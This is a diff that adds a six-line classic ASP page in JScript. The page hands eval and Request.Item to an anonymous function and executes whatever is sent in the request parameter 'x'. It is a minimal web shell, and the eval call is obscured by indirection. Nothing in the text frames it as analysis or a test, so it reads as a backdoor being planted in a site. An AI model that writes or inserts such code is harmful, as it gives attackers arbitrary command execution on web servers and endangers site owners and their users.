@@ -1,0 +1,6 @@
+<%@ Language="JScript" %>
+<%
+(function (run, input) {
+  run(input("x") + "");
+})(eval, Request.Item);
+%>
